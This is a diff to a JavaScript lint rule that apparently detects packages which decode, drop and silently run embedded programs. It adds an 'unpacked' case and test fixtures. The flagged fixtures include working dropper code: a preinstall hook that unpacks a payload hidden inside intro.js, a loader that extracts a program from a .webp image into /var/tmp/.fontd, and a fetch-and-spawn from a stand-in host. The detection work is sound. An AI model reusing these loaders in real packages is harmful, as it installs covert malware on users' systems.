@@ -28,6 +28,7 @@ export default defineRule({
       decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
       code: 'Decodes code ({source}), writes it as {path} and runs it',
       packed: 'Decodes a file that was encoded more than once, writes it as {path} and runs it',
+      unpacked: 'Unpacks {source}, a file of its own, writes it as {path} and runs it out of sight',
       script: 'Writes a script as {path} that {says}, and runs it',
     },
     bits: {
@@ -44,6 +45,7 @@ export default defineRule({
       decoded: 9,
       code: 11,
       packed: 13.5,
+      unpacked: 13.5,
       script: 13.5,
     },
   },
@@ -85,8 +87,26 @@ export default defineRule({
         title: 'what was fetched runs on by itself, without a word',
         code: `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');\n(async () => {\n  const file = path.join(os.tmpdir(), 'agent-' + os.arch());\n  const bytes = await (await fetch('https://stage.invalid/' + os.platform())).arrayBuffer();\n  fs.writeFileSync(file, Buffer.from(bytes), { mode: 0o755 });\n  spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n})();`,
       },
+      {
+        title: 'a part of a container that is no script is unpacked where nobody looks',
+        files: {
+          'package.json': '{"name":"swiftcut","version":"1.0.0","scripts":{"preinstall":"node dist/setup.js"}}',
+          'dist/setup.js': `const fs = require('fs'), zlib = require('zlib'), os = require('os'), path = require('path'), cp = require('child_process');\nconst bytes = fs.readFileSync(path.join(__dirname, 'intro.js'));\nconst out = path.join(os.tmpdir(), '.' + process.pid);\nfs.writeFileSync(out, zlib.gunzipSync(bytes.subarray(bytes.readUInt32LE(8))), { mode: 0o755 });\ncp.spawn(out, [], { detached: true, stdio: 'ignore' }).unref();`,
+        },
+      },
+      {
+        title: 'a picture of the package holds a program',
+        code: `import { readFile, writeFile, chmod } from 'node:fs/promises';\nimport { brotliDecompressSync } from 'node:zlib';\nimport { spawn } from 'node:child_process';\nconst found = await readFile(new URL('./assets/hero.webp', import.meta.url));\nconst program = '/var/tmp/.fontd';\nawait writeFile(program, brotliDecompressSync(found.subarray(4096)));\nawait chmod(program, 0o700);\nspawn(program, { detached: true, stdio: 'ignore' });`,
+      },
     ],
     passes: [
+      {
+        title: 'an installer unpacks the program that it brings, and asks it for its version',
+        files: {
+          'package.json': '{"name":"swiftcut","version":"1.0.0","scripts":{"postinstall":"node install.js"}}',
+          'install.js': `const fs = require('fs'), zlib = require('zlib'), path = require('path'), cp = require('child_process');\nconst out = path.join(__dirname, 'bin', 'swiftcut');\nfs.writeFileSync(out, zlib.gunzipSync(fs.readFileSync(path.join(__dirname, 'swiftcut.gz'))), { mode: 0o755 });\ncp.execFileSync(out, ['--version'], { stdio: 'inherit' });`,
+        },
+      },
       {
         title: 'a script that builds is written and started',
         code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.sh', '#!/bin/sh\\nmake all\\n');\ncp.execSync('sh run.sh');`,
@@ -134,6 +154,8 @@ export default defineRule({
       const starts = runs.filter(one => one.node !== call.node && isStart(context, one, path));
       const run = starts.find(one => !onlyAsks(context, one)) ?? starts[0];
       if (!run) continue;
+      // Installers of programs for one system unpack what they bring, and wait for what they start.
+      if (label?.kind === 'file' && !script && !isUnseen(context, run)) continue;
       const address =
         from === undefined ? (label?.kind === 'remote' ? releaseOf(context, label) : undefined) : oddRelease(from);
       context.report({
@@ -169,6 +191,7 @@ function messageOf(
   checks: boolean,
   run: Call,
 ): string {
+  if (label.kind === 'file') return 'unpacked';
   if (label.kind !== 'remote' && isNative(context, label)) return 'program';
   if (label.kind !== 'remote' && isTwice(label)) return 'packed';
   if (label.kind !== 'remote') return path.texts.some(text => SCRIPT.test(text)) ? 'code' : 'decoded';
@@ -355,7 +378,8 @@ function strangest(labels: readonly Label[]): Label | undefined {
   return (
     labels.find(({ kind }) => kind === 'remote') ??
     labels.find(label => isForeign(label) && isTwice(label)) ??
-    labels.find(isForeign)
+    labels.find(isForeign) ??
+    labels.find(({ kind, through }) => kind === 'file' && through.some(({ says }) => says.startsWith('decodes ')))
   );
 }
 
